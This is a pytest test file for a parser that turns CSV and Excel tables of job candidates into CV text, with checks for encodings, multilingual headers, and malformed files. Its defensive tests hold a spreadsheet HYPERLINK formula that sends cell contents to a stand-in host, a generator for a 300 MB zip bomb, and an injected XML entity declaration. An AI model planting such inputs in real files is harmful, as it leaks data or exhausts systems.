"""Tables of candidates: a row is a document, whatever the delimiter, the language or the faults around it."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.documents import read_row
from assay.documents._columns import _NAMES, field_of
from assay.documents.tables import Row, rows
from assay.errors import DocumentError, OversizedDocument, UnreadableDocument, UnsupportedDocument

HEADER = "Name,Current Title,Company,Skills,Experience,Notice period\n"
TABLE = HEADER + (
    'Noor Abernathy,ML Engineer,Alderpoint,"vLLM, CUDA","ML Engineer, Alderpoint, 2020 - 2024\n'
    '- Ran vLLM in production",3 months\n'
    "\n"
    "Piotr Zielony,Analyst,Kestrel,SQL,7,\n"
)


def workbook(*lines: tuple[object, ...], sheets: int = 1) -> bytes:
    """A workbook whose first sheet holds these rows."""
    book = openpyxl.Workbook()
    for line in lines:
        book.active.append(line)
    for _ in range(sheets - 1):
        book.create_sheet().append(("Name", "Skills"))
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def texts(data: bytes, name: str = "pool.csv") -> list[str]:
    """The text of every row."""
    return [read_row(row, name).text for row in rows(data, name)]


def test_a_row_becomes_the_text_of_a_cv() -> None:
    """Known columns become parts, the lines of a cell stay lines, other columns keep their header."""
    first, second = texts(TABLE.encode())

    assert first == (
        "Noor Abernathy\nML Engineer\n\n"
        "EXPERIENCE\nML Engineer, Alderpoint, 2020 - 2024\n- Ran vLLM in production\n\n"
        "SKILLS\nvLLM, CUDA\n\n"
        "ADDITIONAL INFORMATION\nNotice period: 3 months\n"
    )
    assert second == ("Piotr Zielony\n7 years of experience\n\nEXPERIENCE\nAnalyst, Kestrel\n\nSKILLS\nSQL\n")


def test_rows_are_numbered_as_a_spreadsheet_does() -> None:
    """The header is row 1, an empty row counts, a cell of two lines is one row."""
    assert [row.number for row in rows(TABLE.encode(), "pool.csv")] == [2, 4]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_delimiter_and_encoding_are_found(delimiter: str, encoding: str) -> None:
    """As German Excel writes, as a terminal writes, with a comma in a cell."""
    lines = [
        ["Name", "Berufserfahrung", "Fähigkeiten"],
        ["Jörg Weiß", "ML-Ingenieur, Köln", '"PyTorch, SQL"'],
    ]
    data = "\n".join(delimiter.join(line) for line in lines)
    data = data.replace("ML-Ingenieur, Köln", '"ML-Ingenieur, Köln"')

    assert texts(data.encode(encoding)) == [
        "Jörg Weiß\n\nEXPERIENCE\nML-Ingenieur, Köln\n\nSKILLS\nPyTorch, SQL\n"
    ]


@pytest.mark.parametrize(
    ("header", "field"),
    [
        ("Full Name", "name"), ("E-Mail", "contact"), ("Years of Experience", "years"),
        ("Berufserfahrung", "experience"), ("KENNTNISSE", "skills"), ("Über mich", "summary"),
        ("Compétences", "skills"), ("Expérience professionnelle", "experience"), ("Formation", "education"),
        ("Habilidades", "skills"), ("Formación académica", "education"), ("Competenze", "skills"),
        ("Esperienza lavorativa", "experience"), ("Formação", "education"), ("Resumo", "summary"),
        ("Vaardigheden", "skills"), ("Werkervaring", "experience"), ("Umiejętności", "skills"),
        ("Doświadczenie zawodowe", "experience"), ("Wykształcenie", "education"), ("Shoe size", None), ("", None),
    ],
)  # fmt: skip
def test_headers_are_known_in_eight_languages(header: str, field: str | None) -> None:
    """Without regard to case, accents and punctuation."""
    assert field_of(header) == field


def test_no_header_means_two_things() -> None:
    """Every name of the table stands in one field and is written as headers are looked up."""
    names = [name for names in _NAMES.values() for name in names.split("|")]

    assert len(names) == len(set(names))
    assert [n for n in names if field_of(n) is None] == []


def test_a_workbook_is_read_like_a_csv() -> None:
    """Numbers, dates and booleans as people see them; only the first sheet."""
    data = workbook(
        ("Pool of November",), (), ("Name", "Skills", "Since", "Title", "Employer", "Remote"),
        ("Noor", "vLLM", date(2020, 3, 1), "Engineer", "Alderpoint", True), (), ("Piotr", 3.0, None, "Analyst", "", None),
        sheets=2,
    )  # fmt: skip

    assert [row.number for row in rows(data, "pool.xlsx")] == [4, 6]
    assert texts(data, "pool.xlsx") == [
        "Noor\n\nEXPERIENCE\nEngineer, Alderpoint    2020-03 - present\n\nSKILLS\nvLLM\n\nADDITIONAL INFORMATION\nRemote: True\n",
        "Piotr\nAnalyst\n\nSKILLS\n3\n",
    ]


def test_formulas_are_inert() -> None:
    """In a CSV they are text; in a workbook the value they had when saved, here none."""
    formula = '=HYPERLINK("http://example.org/?"&A1,"x")'
    quoted = formula.replace('"', '""')

    assert formula in texts(f'Name,Skills\n"{quoted}",SQL\n'.encode())[0]
    assert texts(workbook(("Name", "Skills"), (formula, "SQL")), "pool.xlsx") == ["SKILLS\nSQL\n"]


def test_a_quote_never_closed_is_named_and_the_rows_before_it_stay() -> None:
    """The fault stands on its row."""
    found = rows((HEADER + 'A,x,y,SQL,z,\nB,"x,y,SQL,z,\nC,x,y,SQL,z,\n').encode(), "pool.csv")

    assert [(r.number, r.fault is None) for r in found] == [(2, True), (3, False)]
    assert "never closed" in (found[1].fault or "")


def test_a_cell_beyond_all_limits_is_named_and_the_rows_behind_it_are_read() -> None:
    """csv stops at 131,072 characters; the next line is a row again."""
    found = rows((HEADER + f"A,x,y,{'S' * 200_000},z,\nB,x,y,SQL,z,\n").encode(), "pool.csv")

    assert [(r.number, r.fault is None) for r in found] == [(2, False), (3, True)]


def test_rows_that_are_too_long_or_too_short_are_read() -> None:
    """A cell without a header is called by its number."""
    assert "column 3: extra" in texts(b"Name,Skills\nA,SQL,extra\n")[0]
    assert texts(b"Name,Skills,Title\nA,SQL\n") == ["A\n\nSKILLS\nSQL\n"]


def bomb() -> bytes:
    """A workbook that unpacks to 300 MB."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/workbook.xml", "w") as member:
            for _ in range(300):
                member.write(b" " * 1_000_000)
    return stream.getvalue()


def with_part(name: str, change: tuple[bytes, bytes]) -> bytes:
    """A sound workbook with one part changed."""
    sound = zipfile.ZipFile(io.BytesIO(workbook(("Name", "Skills"), ("A", "SQL"))))
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for part in sound.namelist():
            data = sound.read(part)
            archive.writestr(part, data.replace(*change) if part == name else data)
    return stream.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


@pytest.mark.parametrize(
    ("name", "data", "error"),
    [
        ("pool.csv", b"a,b\n1,2\n", UnsupportedDocument),
        ("pool.csv", b"", UnsupportedDocument),
        ("pool.csv", b"Name,Email\nA,b@example.org\n", UnsupportedDocument),
        ("pool.xlsx", b"PK\x03\x04 and nothing of use", UnreadableDocument),
        ("pool.xlsx", b"Name,Skills\nA,SQL\n", UnreadableDocument),
        ("pool.xlsx", b"\xd0\xcf\x11\xe0" + b"\x00" * 600, UnsupportedDocument),
        ("pool.xlsx", bomb(), OversizedDocument),
        ("pool.xlsx", with_part("xl/workbook.xml", (b"<workbook", b"<wrkbk")), UnreadableDocument),
        ("pool.xlsx", with_part(SHEET, (b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet')), UnreadableDocument),
        ("pool.xlsx", workbook(("Shoe size",), (43,)), UnsupportedDocument),
    ],
)  # fmt: skip
def test_what_is_no_table_of_candidates_is_refused_in_a_sentence(
    name: str, data: bytes, error: type[DocumentError]
) -> None:
    """Other tables, damage, a bomb, entities, an old workbook."""
    with pytest.raises(error) as caught:
        rows(data, name)

    assert "\n" not in str(caught.value)
    assert caught.value.document == name


def test_a_cell_a_million_rows_down_does_not_cost_a_million_rows() -> None:
    """What stands beyond the limit of rows is not looked for."""
    far = with_part(
        SHEET, (b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    )

    assert len(rows(far, "pool.xlsx")) == 1


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8"), max_size=12), max_size=5), max_size=6))
def test_any_cells_give_rows_that_hold_them_or_a_fault(lines: list[list[str]]) -> None:
    """Whatever stands in the cells, reading ends in documents, faults or a DocumentError."""
    data = "Name,Skills\n" + "\n".join(",".join(line) for line in lines)
    for row in rows(data.encode(), "pool.csv"):
        assert isinstance(row, Row)
        assert row.fault or row.cells
